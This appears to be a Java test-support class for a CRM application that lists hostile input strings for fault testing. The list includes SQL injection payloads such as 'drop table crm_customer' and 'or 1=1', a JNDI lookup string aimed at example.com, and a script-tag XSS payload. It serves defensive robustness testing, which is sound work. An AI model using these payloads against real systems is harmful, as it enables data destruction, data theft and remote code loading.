package io.embedcrm.faults;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** Text that is out to break something. */
final class HostileText {
    private static final List<String> INJECTIONS = List.of(
            "'",
            "\"",
            "';--",
            "' or '1'='1",
            "' or 1=1 --",
            "'); drop table crm_customer; --",
            "\"; drop table crm_customer; --",
            "x' union select null, null, null --",
            "1; delete from crm_customer where 1=1",
            "' || (select tenant_id from crm_customer limit 1) || '",
            "'; shutdown; --",
            "\\'; drop table crm_note; --",
            "%' and '%'='",
            "_%\\",
            "?",
            ":name",
            "$1",
            "{ts '2026-01-01 00:00:00'}",
            "/* */ --",
            "`crm_customer`",
            "[Customer]",
            "${jndi:ldap://example.com/a}",
            "{\"v\":1,\"where\":{}}",
            "</script><script>alert(1)</script>",
            "\u0000",
            "a\u0000b",
            "\uD83D",
            "\uDE00\uD83D",
            "\u202Eevil",
            "\u200B",
            " ",
            "",
            "\r\n\t",
            "ＡＢＣ'；",
            "İı",
            "e\u0301 é",
            "😀".repeat(30),
            "x".repeat(100_000));

    private HostileText() {}

    /** Injections, and the big list of naughty strings where it is at hand. */
    static List<String> all() {
        List<String> all = new ArrayList<>(INJECTIONS);
        Stream.of("../shared/data", "../../shared/data")
                .map(place -> Path.of(System.getProperty("crm.data", place), "naughty-strings/blns.txt"))
                .filter(Files::exists)
                .findFirst()
                .ifPresent(file -> all.addAll(lines(file)));
        return all;
    }

    private static List<String> lines(Path file) {
        try (Stream<String> lines = Files.lines(file)) {
            return lines.filter(line -> !line.startsWith("#")).distinct().toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
